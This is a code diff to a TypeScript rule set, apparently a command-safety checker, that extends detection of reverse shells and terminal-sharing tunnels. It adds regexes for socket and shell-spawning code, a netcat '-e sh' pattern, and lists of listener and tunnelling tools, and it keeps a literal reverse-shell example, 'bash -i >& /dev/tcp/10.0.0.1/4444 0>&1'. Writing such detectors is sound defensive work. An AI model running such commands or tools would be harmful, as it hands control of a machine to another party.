@@ -1,15 +1,25 @@
 // Rules about giving control of a shell to others.
 
+import { INERT } from '../../carriers/carried.ts'
 import { interpreterName, SHELLS } from '../../carriers/wrappers.ts'
-import { TAINT } from '../../model.ts'
+import { type Arg, TAINT } from '../../model.ts'
 import { inputCode } from '../../writes/positions.ts'
 import { matching, only, type Rule, tools, verb } from '../rule.ts'
 
 /** Code that connects to the network. Together with RUNS_COMMANDS it gives control of a shell to another machine. */
 const CONNECTS =
-  /socket|fsockopen|TCPSocket|\/inet\/tcp|net\.Dial|TcpStream|TcpClient|IO::Socket|Net::|net["')]*\)?\.(?:connect|createServer|Socket)/i
+  /socket|fsockopen|TCPSocket|\/inet\/tcp|net\.Dial|TcpStream|TcpClient|IO::Socket|Net::|net["')]*\)?\.(?:connect|createServer|Socket)|gen_tcp|(?:Deno|Bun)\.connect|Sockets?\.(?:connect|tcp)/i
 const RUNS_COMMANDS =
-  /\/bin\/(?:ba|z|da)?sh|dup2|pty\.spawn|subprocess|exec|\|&|fdopen|popen|proc_open|child_process|ProcessBuilder|run\(\s*pipeline|os\.execute/
+  /\/bin\/(?:ba|z|da)?sh|dup2|pty\.spawn|subprocess|exec|\|&|fdopen|popen|proc_open|child_process|ProcessBuilder|run\(\s*pipeline|os\.execute|os:cmd|Process\.(?:start|new)|Deno\.Command|spawnSync|\biex\b|(?:system|passthru|spawn|`)[\s("']*(?:\/bin\/)?(?:ba|z|da)?sh\b/
+/** netcat told to hand a shell to the other end, in code of another language. */
+const NETCAT_SHELL = /\bn(?:et)?c(?:at)?\b[^;|\n]* -[a-z]*[ec] *(?:\/bin\/)?(?:ba|z|da|k)?sh\b/
+
+/** Programs like netcat that hand a program, which they are told, to the other end of a connection. */
+const LISTENERS: ReadonlySet<string> = new Set(
+  tools(
+    'nc.exe ncat.exe rcat rustcat pwncat pwncat-cs sbd cryptcat powercat dbd netcat.traditional nc.traditional nc.openbsd gsocket gs-netcat revsh',
+  ),
+)
 
 const SOCKET = /^\/dev\/(?:tcp|udp)\//
 
@@ -18,11 +28,11 @@ export const SHELL_RULES: readonly Rule[] = [
     id: 'reverse-shell',
     level: 'critical',
     why: 'Gives another machine control of a shell on this one.',
-    tools: ['*'],
+    tools: ['*', ...LISTENERS],
     when: (c) => {
       if (SHELLS.has(c.name))
         return c.redirections.filter((r) => SOCKET.test(r.target.text)).map((r) => r.target)
-      if (/^(?:nc|ncat|netcat)$/.test(c.name))
+      if (/^(?:nc|ncat|netcat)(?:\.\w+)?$/.test(c.name))
         return matching(c.args, /^(?:-[a-zA-Z]*e|-c|--exec|--sh-exec|--lua-exec)$|^--(?:sh-)?exec=/).filter(
           () => c.args.some((arg) => /sh\b|bash|cmd|exec|perl|python/.test(arg.text)),
         )
@@ -30,13 +40,19 @@ export const SHELL_RULES: readonly Rule[] = [
         return matching(c.args, /^(?:EXEC|SYSTEM):/i).filter(() =>
           c.args.some((arg) => /^(?:TCP|UDP|OPENSSL|SCTP)/i.test(arg.text)),
         )
+      if (LISTENERS.has(c.name))
+        return matching(c.args, /^(?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k|a)?sh$|^(?:"|')?\/bin\/|^cmd(?:\.exe)?$/)
       if (c.name === 'socket') return only(matching(c.args, /^-[a-z]*p/).length, matching(c.args, /sh\b/))
-      const code = isInterpreter(c.name)
-        ? [...c.args, ...inputCode(c)]
-        : COMPILES.has(c.name) && c.args.length > 0 && c.scope.written?.size
-          ? inputCode(c)
-          : []
-      return code.filter((code) => CONNECTS.test(code.text) && RUNS_COMMANDS.test(code.text))
+      if (c.name === 'xterm')
+        return c.args.filter(
+          (arg, i) => c.args[i - 1]?.text === '-display' && /^(?!localhost)[\w.-]+:\d/.test(arg.text),
+        )
+      // Code in the words of any tool counts; a tool that only shows its words is left out.
+      if (INERT.has(c.name)) return undefined
+      const runsInput = isInterpreter(c.name) || (c.args.length > 0 && c.scope.written?.size)
+      return [...c.args, ...(runsInput ? inputCode(c) : [])].filter(
+        ({ text }) => text.length >= LEAST_CODE && handsShell(text),
+      )
     },
     example: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
   },
@@ -81,7 +97,9 @@ export const SHELL_RULES: readonly Rule[] = [
     id: 'share-terminal',
     level: 'moderate',
     why: 'Lets others see or use this terminal, or reach this machine through another.',
-    tools: tools('ttyd gotty tmate sshx wetty ssh ngrok cloudflared localtunnel bore code'),
+    tools: tools(
+      'ttyd gotty tmate sshx wetty ssh ngrok cloudflared localtunnel lt localtonet bore code devtunnel frpc gost zrok rathole playit pagekite tailscale gs-netcat',
+    ),
     when: (c, o) => {
       if (c.name === 'ssh')
         return only(
@@ -89,6 +107,8 @@ export const SHELL_RULES: readonly Rule[] = [
           true,
         )
       if (c.name === 'code') return only(verb(o) === 'tunnel', true)
+      if (c.name === 'devtunnel') return only(verb(o) === 'host', true)
+      if (c.name === 'tailscale') return only(verb(o) === 'funnel', true)
       if (c.name === 'cloudflared')
         return only(verb(o) === 'tunnel' && (verb(o, 1) === 'run' || o.flag('url')), true)
       return !o.flag('help', 'version', 'h', 'v')
@@ -101,8 +121,14 @@ export const SHELL_RULES: readonly Rule[] = [
 const MORE =
   /^(?:[gmn]?awk|julia|jrunscript|jjs|groovy|scala|tclsh\d*|expect|luajit|R|octave|guile|elixir|erl|swipl|ghci)$/
 
-/** Tools that run the source of a file, which the line may have written before. */
-const COMPILES: ReadonlySet<string> = new Set(tools('go jshell java ghc deno bun'))
+/** Code that connects and runs a shell is longer. */
+const LEAST_CODE = 24
+/** Whether the text has code that hands a shell to another machine. */
+export const handsShell = (text: string): boolean =>
+  NETCAT_SHELL.test(text) || (CONNECTS.test(text) && RUNS_COMMANDS.test(text))
+/** Whether a word may be such code; a quick look that spares most commands the rule. */
+export const mayConnect = ({ text }: Arg): boolean =>
+  text.length >= LEAST_CODE && /connect|sock|tcp|\bn(?:et)?c(?:at)? |net[.:"'(]/i.test(text)
 
 function isInterpreter(name: string): boolean {
   return interpreterName(name) !== undefined || MORE.test(name)
